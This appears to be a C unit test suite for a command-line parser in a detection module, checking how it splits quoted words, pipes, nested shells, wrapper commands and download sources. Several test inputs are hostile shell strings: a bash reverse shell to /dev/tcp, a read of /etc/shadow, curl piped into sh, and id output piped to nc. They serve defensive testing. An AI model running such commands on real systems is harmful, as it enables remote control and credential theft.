#include <stdio.h>

#include "detect/command_facts.h"
#include "runtime/buf.h"
#include "tests/support/check_main.h"

static struct arena arena;
static struct command_line line;

static void setup(void)
{
    arena_init(&arena);
}

static void teardown(void)
{
    arena_done(&arena);
}

/* "name(word,word)>file|" for each command; '^' before one that starts the next, '$' before one within another's words. */
static const char *read_as(const char *text)
{
    struct buf out;

    command_line_read(text_of(text), &arena, &line);
    buf_init(&out, 4096);
    for (size_t i = 0; i < line.count; i++) {
        const struct command *command = &line.commands[i];
        buf_string(&out, i ? " " : "");
        buf_string(&out, command->is_within ? "$" : command->starts_next ? "^" : "");
        buf_text(&out, command->name);
        for (size_t k = 1; k < command->word_count; k++) {
            buf_string(&out, k == 1 ? "(" : ",");
            buf_text(&out, command->words[k]);
        }
        buf_string(&out, command->word_count > 1 ? ")" : "");
        for (size_t k = 0; k < command->output_count; k++) {
            buf_string(&out, ">");
            buf_text(&out, command->outputs[k]);
        }
        if (command->input_count) {
            buf_string(&out, "<");
            buf_text(&out, command->inputs[0]);
        }
        buf_string(&out, command->end == COMMAND_PIPES ? "|" : command->end == COMMAND_THEN ? ";" : "");
    }
    const char *copy = arena_string(&arena, buf_as_text(&out));
    buf_done(&out);
    return copy;
}

START_TEST(words_quotes_and_operators_are_a_shells)
{
    ck_assert_str_eq(read_as("/usr/bin/wget -q http://a/b"), "wget(-q,http://a/b)");
    ck_assert_str_eq(read_as("echo 'a b' \"c'd\" e\\ f g''h"), "echo(a b,c'd,e f,gh)");
    ck_assert_str_eq(read_as("a && b || c; d | e & f\ng"), "a; b; c; d| e; f; g");
    ck_assert_str_eq(read_as("a > x 2>&1 >> y < in"), "a>x>1>y<in");
    ck_assert_str_eq(read_as("bash -i >& /dev/tcp/1.2.3.4/5 0>&1"), "bash(-i)>/dev/tcp/1.2.3.4/5>1");
    ck_assert_str_eq(read_as("(cd /tmp; ls)"), "cd(/tmp); ls;");
    ck_assert_str_eq(read_as(""), "");
    ck_assert_str_eq(read_as("   "), "");
}
END_TEST

START_TEST(what_starts_another_is_told_with_what_it_starts)
{
    ck_assert_str_eq(read_as("sudo -u root cat /etc/shadow"), "^sudo(-u,root,cat,/etc/shadow) cat(/etc/shadow)");
    ck_assert_str_eq(read_as("/bin/busybox wget http://a"), "^busybox(wget,http://a) wget(http://a)");
    ck_assert_str_eq(read_as("A=1 B=2 env -i C=3 nice -n 5 timeout 10 nc -l"),
                     "^env(-i,C=3,nice,-n,5,timeout,10,nc,-l) ^nice(-n,5,timeout,10,nc,-l) ^timeout(10,nc,-l) nc(-l)");
    ck_assert_str_eq(read_as("HISTSIZE=0"), "HISTSIZE=0");
    ck_assert_str_eq(read_as("if true; then rm x; fi"), "^if(true); true; ^then(rm,x); rm(x); fi");
}
END_TEST

START_TEST(shells_within_shells_are_read_quoted_or_not)
{
    ck_assert_str_eq(read_as("sh -c 'wget a; sh b'"), "sh(-c,wget a; sh b) wget(a); sh(b)");
    ck_assert_str_eq(read_as("/bin/sh -c wget a"), "sh(-c,wget,a) wget(a)");
    ck_assert_str_eq(read_as("bash -c \"$(curl -s x)\""), "bash(-c,$(curl -s x)) $(curl -s x) $curl(-s,x)");
    ck_assert_str_eq(read_as("echo `id` $(uname -a)"), "echo(`id`,$(uname -a)) $id $uname(-a)");
}
END_TEST

/* Agents join arguments with blanks, so that what belongs to the script seems to stand behind the shell. */
START_TEST(what_stands_behind_a_shell_is_its_last_commands)
{
    ck_assert_str_eq(read_as("sh -c curl x | sh"), "sh(-c,curl,x) curl(x)| sh");
    ck_assert_str_eq(read_as("sh -c a; curl x > f; b"), "sh(-c,a) a; curl(x)>f; b");
    ck_assert_str_eq(read_as("sh -c 'a; b' > f | c"), "sh(-c,a; b)>f a; b>f| c");
    ck_assert_str_eq(read_as("sh -c echo 'a; b' \"\\\\x41\" c\\ d"), "sh(-c,echo,a; b,\\x41,c d) echo(a; b,\\x41,c d)");
    ck_assert_str_eq(read_as("sh -c echo $(printf '\\x41')"), "sh(-c,echo,$(printf '\\x41')) echo($(printf '\\x41')) $printf(\\x41)");
    ck_assert_str_eq(read_as("sh -c 'a; b' c"), "sh(-c,a; b,c) a; b(c)");
    ck_assert_str_eq(read_as("sh -c cat < f"), "sh(-c,cat)<f cat<f");
    ck_assert_str_eq(read_as("(a || b) | c"), "a; b| c");
    ck_assert_str_eq(read_as("{ a; b; } | c"), "^{(a); a; b| }| c");
    ck_assert_str_eq(read_as("sh -c echo $(id) | nc h 1"), "sh(-c,echo,$(id)) echo($(id))| $id nc(h,1)");
}
END_TEST

START_TEST(a_program_that_lost_its_quotes_is_one_word)
{
    ck_assert_str_eq(read_as("python3 -c import os;os.stat('x') && y"), "python3(-c,import os;os.stat('x') && y)");
    ck_assert_str_eq(read_as("python3 -c 'import os' arg; ls"), "python3(-c,import os,arg); ls");
    ck_assert_str_eq(read_as("sh -c 'sudo perl -ne \"print;\"'"), "sh(-c,sudo perl -ne \"print;\") ^sudo(perl,-ne,print;) perl(-ne,print;)");
    ck_assert_str_eq(read_as("sh -c perl -e a;b"), "sh(-c,perl,-e,a;b) perl(-e,a;b)");
    ck_assert_str_eq(read_as("ruby -rsocket -e a;b"), "ruby(-rsocket,-e,a;b)");
    ck_assert_str_eq(read_as("/usr/bin/python3.11 -c a;b"), "python3.11(-c,a;b)");
    ck_assert_str_eq(read_as("node_exporter -p 9100; ls"), "node_exporter(-p,9100); ls");
    ck_assert_str_eq(read_as("python3 -u app.py; ls"), "python3(-u,app.py); ls");
    ck_assert_str_eq(read_as("python3 -c"), "python3(-c)");
}
END_TEST

START_TEST(pipes_are_followed_past_what_starts_a_command)
{
    (void)read_as("a | sudo b -x | nohup nice c; d");
    const struct command *a = command_find(&line, "a", NULL), *b = command_find(&line, "b", NULL), *c = command_find(&line, "c", NULL);

    ck_assert_ptr_eq(command_feeds(&line, a), b);
    ck_assert_ptr_eq(command_feeds(&line, b), c);
    ck_assert_ptr_null(command_feeds(&line, c));
    ck_assert_ptr_eq(command_fed_by(&line, c), b);
    ck_assert_ptr_eq(command_fed_by(&line, b), a);
    ck_assert_ptr_null(command_fed_by(&line, a));
    ck_assert_ptr_null(command_fed_by(&line, command_find(&line, "d", NULL)));
}
END_TEST

START_TEST(what_stands_within_words_knows_whose)
{
    (void)read_as("bash <(curl x) $(id)");
    ck_assert_str_eq(line.commands[line.commands[1].around].name.bytes, "bash");
    (void)read_as("sh -c X=$(curl x); echo `id`");
    const struct command *curl = command_find(&line, "curl", NULL), *id = command_find(&line, "id", NULL);
    ck_assert(curl->is_within && text_starts(line.commands[curl->around].name, TEXT("X=")));
    ck_assert(id->is_within && text_equal(line.commands[id->around].name, TEXT("echo")));
}
END_TEST

START_TEST(what_is_no_grammar_is_words_and_ends)
{
    char deep[40000];

    (void)read_as("'unclosed");
    (void)read_as("$(");
    (void)read_as("`");
    (void)read_as(">");
    (void)read_as("|||;;&&&");
    memset(deep, '(', sizeof deep - 1);
    deep[sizeof deep - 1] = '\0';
    (void)read_as(deep);
    for (size_t i = 0; i + 2 < sizeof deep; i += 2)
        memcpy(deep + i, "$(", 2);
    (void)read_as(deep);
    for (size_t i = 0; i + 7 < sizeof deep; i += 7)
        memcpy(deep + i, "sh -c a", 7);
    (void)read_as(deep);
    for (size_t i = 0; i + 2 < sizeof deep; i += 2)
        memcpy(deep + i, "a;", 2);
    (void)read_as(deep);
    ck_assert_uint_le(line.count, COMMANDS_MAX);
    memset(deep, '\\', sizeof deep - 1); /* two where the word is quoted again */
    memcpy(deep, "sh -c x '", 9);
    (void)read_as(deep);
    ck_assert_uint_le(line.commands[line.count - 1].words[1].count, COMMAND_BYTES_MAX);
}
END_TEST

START_TEST(downloads_tell_from_where_and_into_which_file)
{
    static const struct {
        const char *text, *source, *target; /* NULL: none */
    } cases[] = {
        {"wget http://h/x.sh", "http://h/x.sh", "x.sh"},
        {"wget -O /tmp/y http://h/x.sh", "http://h/x.sh", "/tmp/y"},
        {"wget -qO- http://h/x.sh", "http://h/x.sh", NULL},
        {"curl http://h/x", "http://h/x", NULL},
        {"curl -so /tmp/z http://h/x", "http://h/x", "/tmp/z"},
        {"curl -O http://h/a/b?c", "http://h/a/b?c", "b"},
        {"curl http://h/x > /tmp/q", "http://h/x", "/tmp/q"},
        {"tftp -g -r m 198.51.100.7", "198.51.100.7", "m"},
        {"tftp -g -l n -r m 198.51.100.7", "198.51.100.7", "n"},
        {"ftpget -u a -p b 198.51.100.7 loc rem", "198.51.100.7", "loc"},
    };

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct text source, target;
        command_line_read(text_of(cases[i].text), &arena, &line);
        ck_assert_msg(command_downloads(&line.commands[0], &source, &target), "%s", cases[i].text);
        ck_assert_msg(text_equal(source, text_of(cases[i].source)), "%s: %.*s", cases[i].text, TEXT_ARGS(source));
        ck_assert_msg(text_equal(target, text_of(cases[i].target)) && !target.bytes == !cases[i].target, "%s: %.*s", cases[i].text, TEXT_ARGS(target));
    }
    struct text ignored;
    command_line_read(TEXT("curl -T f http://h/"), &arena, &line);
    ck_assert(!command_downloads(&line.commands[0], &ignored, &ignored));
    ck_assert(text_equal(url_host(TEXT("http://u:p@h.example:8080/x")), TEXT("h.example")));
    ck_assert(text_equal(url_host(TEXT("root@203.0.113.5:/tmp")), TEXT("203.0.113.5")));
    ck_assert(text_equal(url_host(TEXT("http://[2001:db8::1]:80/")), TEXT("2001:db8::1")));
}
END_TEST

int main(void)
{
    const TTest *const tests[] = {
        words_quotes_and_operators_are_a_shells,
        what_starts_another_is_told_with_what_it_starts,
        shells_within_shells_are_read_quoted_or_not,
        what_stands_behind_a_shell_is_its_last_commands,
        a_program_that_lost_its_quotes_is_one_word,
        pipes_are_followed_past_what_starts_a_command,
        what_stands_within_words_knows_whose,
        what_is_no_grammar_is_words_and_ends,
        downloads_tell_from_where_and_into_which_file,
    };
    const struct check_suite suite = {"detect/command_line", tests, sizeof tests / sizeof *tests, setup, teardown, 60};
    return check_main(&suite);
}
